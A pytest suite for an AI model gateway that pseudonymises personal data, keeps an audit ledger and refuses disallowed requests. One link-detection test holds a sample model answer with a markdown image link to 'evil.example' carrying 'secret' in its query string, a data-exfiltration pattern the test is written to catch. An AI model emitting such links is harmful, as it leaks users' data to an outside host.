"""The door: what each exchange decides, gives out and leaves behind."""

from __future__ import annotations

import asyncio
import dataclasses
import os
import signal
from collections.abc import AsyncGenerator, Callable
from contextlib import aclosing
from pathlib import Path
from typing import Any

import orjson
import pytest

from bauhinia.errors import (
    ModelBusy,
    ModelError,
    ModelTimeout,
    ModelUnavailable,
    NotFound,
    Refused,
    StoreError,
    TooLong,
)
from bauhinia.gateway import Answer, Gateway, Message, Piece
from bauhinia.models import BackendEvent, Calls, ChatRequest, FakeEmbedder, FakeModel, Fault, Tool
from bauhinia.people import Officer
from bauhinia.settings import Settings
from bauhinia.store import Database

MakeGateway = Callable[[FakeModel], Gateway]


async def rows(database: Database) -> list[dict[str, Any]]:
    """The ledger's bodies."""
    async with database.maintenance() as connection:
        cursor = await connection.execute("SELECT body FROM ledger ORDER BY seq")
        return [orjson.loads(row[0]) for row in await cursor.fetchall()]


async def usage(database: Database) -> list[tuple[Any, ...]]:
    async with database.maintenance() as connection:
        cursor = await connection.execute(
            "SELECT entry, officer, use, model, task, prompt_tokens, completion_tokens FROM usage ORDER BY entry"
        )
        return await cursor.fetchall()


async def test_every_stage_decides_in_order(gateway: Gateway, ask_for: Any) -> None:
    answer = await gateway.ask(ask_for("Good morning."))
    stages = [decision.stage for decision in answer.decisions]
    assert stages == ["admit", "redact", "route", "forward", "restore", "inspect", "label", "record"]
    assert {decision.reason for decision in answer.decisions} == {"ok"}


async def test_personal_data_never_reaches_the_model_and_comes_back(
    gateway: Gateway, model: FakeModel, ask_for: Any
) -> None:
    text = "HKID A123456(3), phone 2345 6789."
    answer = await gateway.ask(ask_for(text, messages=(Message("system", text), Message("user", text))))
    assert [message.content for message in model.requests[0].messages] == [
        "HKID HKID-H1, phone PHONE-P1."
    ] * 2
    assert answer.text == text
    assert answer.decided("pseudonymised") and answer.decided("restored")


@pytest.mark.parametrize("piece", [1, 2, 3, 5, 7, 100])
async def test_pseudonyms_split_across_chunks(open_gateway: MakeGateway, ask_for: Any, piece: int) -> None:
    gateway = open_gateway(FakeModel(["Call PHONE-P1, or PHONE-P1."], piece=piece))
    events = [event async for event in gateway.exchange(ask_for("My number is 2345 6789."))]
    answer = events[-1]
    assert isinstance(answer, Answer) and answer.text == "Call 2345 6789, or 2345 6789."
    assert "".join(event.text for event in events if isinstance(event, Piece)) == answer.text


async def test_thinking_is_restored_and_kept_apart(open_gateway: MakeGateway, ask_for: Any) -> None:
    gateway = open_gateway(FakeModel(["<think>About HKID-H1.</think>Done."], piece=3))
    answer = await gateway.ask(ask_for("A123456(3)"))
    assert (answer.thinking, answer.text) == ("About A123456(3).", "Done.")


async def test_usage_and_ledger_are_written_together(
    gateway: Gateway, database: Database, ask_for: Any
) -> None:
    answer = await gateway.ask(ask_for("My HKID is A123456(3).", task="t9"))
    (row,) = await rows(database)
    assert answer.label.entry == row["seq"] == 1
    assert (row["outcome"], row["officer"], row["use"], row["model"], row["task"]) == (
        "answered", "o1", "api.chat", "fake", "t9",
    )  # fmt: skip
    assert ["redact", True, "pseudonymised"] in row["decisions"]
    assert row["answer_characters"] == len(answer.text) and len(row["answer_digest"]) == 64
    assert await usage(database) == [
        (1, "o1", "api.chat", "fake", "t9", answer.usage.prompt_tokens, answer.usage.completion_tokens)
    ]


async def test_no_word_of_prompt_or_answer_is_in_the_ledger(
    gateway: Gateway, database: Database, ask_for: Any
) -> None:
    await gateway.ask(ask_for("Zanzibar A123456(3) at 2345 6789"))
    with pytest.raises(Refused):
        await gateway.ask(ask_for("Zanzibar", use="nothing.known"))
    written = orjson.dumps(await rows(database)).decode()
    assert (
        "Zanzibar" not in written and "A123456" not in written and "2345" not in written.replace('"seq"', "")
    )


async def test_an_answer_comes_only_after_its_record(
    gateway: Gateway, database: Database, ask_for: Any
) -> None:
    async for event in gateway.exchange(ask_for("Hello")):
        if isinstance(event, Answer):
            assert len(await rows(database)) == 1


@pytest.mark.parametrize(
    ("change", "error", "stage", "reason"),
    [
        ({"use": "nothing.known"}, Refused, "admit", "unknown_use"),
        ({"officer": Officer(id="", department="D", name="")}, Refused, "admit", "unknown_officer"),
        ({"model": "another"}, NotFound, "route", "unknown_model"),
        ({"classification": "secret"}, Refused, "route", "classification"),
        ({"max_tokens": 9_000}, TooLong, "route", "too_long"),
    ],
)
async def test_refusals_have_their_reason_and_leave_a_row(
    gateway: Gateway,
    database: Database,
    model: FakeModel,
    ask_for: Any,
    change: dict[str, Any],
    error: type[Exception],
    stage: str,
    reason: str,
) -> None:
    with pytest.raises(error) as raised:
        await gateway.ask(ask_for("Hello", **change))
    assert raised.value.hint  # type: ignore[attr-defined]
    assert model.requests == []
    (row,) = await rows(database)
    assert row["outcome"] == "refused" and row["decisions"][-1] == [stage, False, reason]
    assert await usage(database) == []


async def test_restricted_text_stays_on_this_machine(
    settings: Settings, database: Database, ask_for: Any
) -> None:
    for url, allowed in (("", True), ("http://127.0.0.1:9/v1", True), ("https://models.example/v1", False)):
        chosen = settings.model_copy(update={"model_url": url})
        gateway = Gateway(chosen, database, backend=FakeModel(), embedder=FakeEmbedder())
        work = gateway.ask(ask_for("Hello", classification="restricted"))
        if allowed:
            assert (await work).text == "Hello"
        else:
            with pytest.raises(Refused):
                await work
        await gateway.stop()


async def test_a_long_prompt_is_counted_exactly_only_near_the_limit(
    open_gateway: MakeGateway, ask_for: Any
) -> None:
    counted: list[str] = []

    class Counting(FakeModel):
        async def count_tokens(self, text: str) -> int:
            counted.append(text)
            return len(text) // 5

    gateway = open_gateway(Counting(context_tokens=1_000))
    await gateway.ask(ask_for("word " * 100, max_tokens=100))
    assert counted == []
    await gateway.ask(ask_for("word " * 800, max_tokens=100))
    assert len(counted) == 1
    with pytest.raises(TooLong):
        await gateway.ask(ask_for("word " * 1_000, max_tokens=100))


async def test_a_failing_backend_is_told_and_recorded(
    open_gateway: MakeGateway, database: Database, ask_for: Any
) -> None:
    gateway = open_gateway(FakeModel([Fault(text="Half an ans", error=ModelError("It broke."))]))
    with pytest.raises(ModelError, match="It broke"):
        await gateway.ask(ask_for("Hello"))
    (row,) = await rows(database)
    assert (row["outcome"], row["error"]) == ("failed", "ModelError")
    assert row["completion_tokens"] > 0
    assert len(await usage(database)) == 1


async def test_a_silent_backend_is_given_up(settings: Settings, database: Database, ask_for: Any) -> None:
    model = FakeModel(["Hello"], delay=30)
    hasty = settings.model_copy(update={"model_timeout": 0.05})
    gateway = Gateway(hasty, database, backend=model, embedder=FakeEmbedder())
    with pytest.raises(ModelTimeout):
        await gateway.ask(ask_for("Hello"))
    assert model.active == 0 and model.cancelled == 1
    await gateway.stop()


@pytest.mark.parametrize("way", ["cancel", "close"])
async def test_leaving_frees_the_backend_and_leaves_a_row(
    open_gateway: MakeGateway, database: Database, ask_for: Any, way: str
) -> None:
    model = FakeModel(["word " * 200], delay=0.01)
    gateway = open_gateway(model)
    events = gateway.exchange(ask_for("Hello"))
    assert isinstance(await anext(events), Piece)
    if way == "close":
        await events.aclose()
    else:
        following = asyncio.ensure_future(anext(events))
        await asyncio.sleep(0)
        following.cancel()
        await asyncio.gather(following, return_exceptions=True)
    assert (model.active, model.cancelled) == (0, 1)
    await gateway.stop()
    (row,) = await rows(database)
    assert (row["outcome"], row["decisions"][-1]) == ("cancelled", ["forward", False, "cancelled"])
    assert row["completion_tokens"] > 0


async def test_200_abandoned_streams_leave_200_rows_and_a_free_backend(
    open_gateway: MakeGateway, database: Database, ask_for: Any
) -> None:
    model = FakeModel(lambda request: "word " * 500, delay=0.01, slots=4)
    gateway = open_gateway(model)
    asks = [asyncio.create_task(gateway.ask(ask_for("Hello"))) for _ in range(200)]
    await asyncio.sleep(0.1)
    for left in asks:
        left.cancel()
    await asyncio.gather(*asks, return_exceptions=True)
    assert model.active == 0
    async with asyncio.timeout(5):
        quick = gateway.exchange(ask_for("Hello"))
        await anext(quick)
        await quick.aclose()
    await gateway.stop()
    assert [row["outcome"] for row in await rows(database)] == ["cancelled"] * 201
    assert (await gateway.ledger.verify()).ok


async def test_more_than_it_can_take_is_refused(open_gateway: MakeGateway, ask_for: Any) -> None:
    gateway = open_gateway(FakeModel(delay=5))
    gateway._admission._at_once = 3
    asks = [asyncio.create_task(gateway.ask(ask_for("Hello"))) for _ in range(3)]
    while gateway._admission.under_way < 3:  # noqa: ASYNC110  # nobody is told
        await asyncio.sleep(0.01)
    with pytest.raises(ModelBusy):
        await gateway.ask(ask_for("Hello"))
    for left in asks:
        left.cancel()
    await asyncio.gather(*asks, return_exceptions=True)
    assert gateway._admission.under_way == 0


async def test_a_model_that_cannot_start_is_told_and_tried_again(
    open_gateway: MakeGateway, database: Database, ask_for: Any
) -> None:
    class Late(FakeModel):
        tries = 0

        async def start(self) -> None:
            self.tries += 1
            if self.tries == 1:
                raise ModelUnavailable("There are no weights.", hint="Fetch them.")

    model = Late()
    gateway = open_gateway(model)
    with pytest.raises(ModelUnavailable):
        await gateway.ask(ask_for("Hello"))
    assert (await rows(database))[0]["outcome"] == "failed"
    assert (await gateway.ask(ask_for("Hello"))).text == "Hello"
    assert model.tries == 2


async def test_one_loading_for_many_callers(open_gateway: MakeGateway) -> None:
    class Counting(FakeModel):
        starts = 0

        async def start(self) -> None:
            self.starts += 1
            await asyncio.sleep(0.02)

    model = Counting()
    gateway = open_gateway(model)
    await asyncio.gather(*(gateway.start() for _ in range(5)))
    await gateway.start()
    assert model.starts == 1


async def test_links_that_nobody_gave_are_told(open_gateway: MakeGateway, ask_for: Any) -> None:
    given = "See https://www.example.gov.hk/form for details."
    hostile = "Done. ![x](https://evil.example/?q=secret) [here][1]\n\n[1]: https://evil.example/2"
    gateway = open_gateway(FakeModel([given, hostile, "No link."]))
    answers = [await gateway.ask(ask_for(given)) for _ in range(3)]
    assert [answer.decided("links_found") for answer in answers] == [False, True, False]
    assert answers[1].text == hostile


async def test_the_label_says_which_model_and_which_entry(gateway: Gateway, ask_for: Any) -> None:
    label = (await gateway.ask(ask_for("Hello"))).label
    assert (label.model, label.entry) == ("fake", 1)
    assert "+" in label.made_at or label.made_at.endswith("Z") or "-" in label.made_at[10:]
    assert "fake" in label.sentence()


async def test_embeddings_go_through_the_door(gateway: Gateway, database: Database) -> None:
    vectors = await gateway.embed(
        ["a", "b"], "query", officer=gateway.officer, use="api.embed", classification="unclassified"
    )
    assert len(vectors) == 2
    (row,) = await rows(database)
    assert (row["kind"], row["outcome"], row["use"]) == ("embed", "answered", "api.embed")
    with pytest.raises(Refused):
        await gateway.embed(
            ["a"], "query", officer=gateway.officer, use="unknown", classification="unclassified"
        )
    assert [row["outcome"] for row in await rows(database)] == ["answered", "refused"]


@pytest.mark.parametrize(("url", "seen"), [("", "A123456(3)"), ("https://e.example/v1", "HKID-H1")])
async def test_a_remote_embedder_sees_no_personal_data(
    settings: Settings, database: Database, url: str, seen: str
) -> None:
    class Watching(FakeEmbedder):
        texts: list[str] = []  # noqa: RUF012

        async def embed(self, texts: Any, kind: Any) -> list[list[float]]:
            self.texts.extend(texts)
            return await super().embed(texts, kind)

    embedder = Watching()
    embedder.texts = []
    chosen = settings.model_copy(update={"embedder_url": url})
    gateway = Gateway(chosen, database, backend=FakeModel(), embedder=embedder)
    await gateway.embed(
        ["A123456(3)"], "passage", officer=gateway.officer, use="api.embed", classification="unclassified"
    )
    assert embedder.texts == [seen]
    await gateway.stop()


async def test_the_database_killed_and_restarted_between_requests(
    database_folder: Path, ask_for: Any
) -> None:
    settings = Settings(data_folder=database_folder, database_url="", model="fake")
    async with Database.open(settings) as database:
        gateway = Gateway(settings, database, backend=FakeModel(), embedder=FakeEmbedder())
        assert (await gateway.ask(ask_for("One"))).label.entry == 1
        assert database.postgres is not None and database.postgres.pid is not None
        os.kill(database.postgres.pid, signal.SIGKILL)
        assert (await gateway.ask(ask_for("Two"))).label.entry == 2
        assert (await gateway.ledger.verify()).ok
        await gateway.stop()


async def test_no_answer_without_a_record(
    gateway: Gateway, database: Database, ask_for: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def lost(*_: object) -> None:
        raise StoreError("The database cannot be reached at the moment.")

    monkeypatch.setattr(gateway.ledger, "_chain_on", lost)
    events = []
    with pytest.raises(StoreError):
        async for event in gateway.exchange(ask_for("Hello")):
            events.append(event)
    assert not any(isinstance(event, Answer) for event in events)


async def test_a_schema_reaches_the_backend(gateway: Gateway, model: FakeModel, ask_for: Any) -> None:
    schema = {"type": "object", "properties": {"a": {"type": "integer"}}, "required": ["a"]}
    answer = await gateway.ask(ask_for("Hello", schema=schema, stop=("END",), temperature=0.5))
    assert orjson.loads(answer.text) == {"a": 0}
    request = model.requests[0]
    assert (request.schema, request.stop, request.temperature) == (schema, ("END",), 0.5)


def test_an_ask_cannot_be_changed(ask_for: Any) -> None:
    with pytest.raises(dataclasses.FrozenInstanceError):
        ask_for("Hello").use = "pilot.draft"
    assert ChatRequest(messages=()).max_tokens == 512


async def test_a_tool_call_that_is_left_half_written_is_billed(
    open_gateway: MakeGateway, ask_for: Any, database: Database
) -> None:
    begun = asyncio.Event()

    class Telling(FakeModel):
        async def chat(self, request: ChatRequest) -> AsyncGenerator[BackendEvent, None]:
            async with aclosing(super().chat(request)) as events:
                async for event in events:
                    yield event
                    begun.set()

    calls = (("rain", {"place": "Tai Po"}),) * 200
    gateway = open_gateway(Telling(lambda _: Calls(calls=calls), delay=0.05))
    left = asyncio.create_task(gateway.ask(ask_for("Rain?", tools=(Tool(name="rain"),))))
    await begun.wait()
    left.cancel()
    with pytest.raises(asyncio.CancelledError):
        await left
    await gateway.ledger.close()
    (row,) = await rows(database)
    assert row["outcome"] == "cancelled" and row["prompt_tokens"] > 0
    assert 0 < row["completion_tokens"] < 200
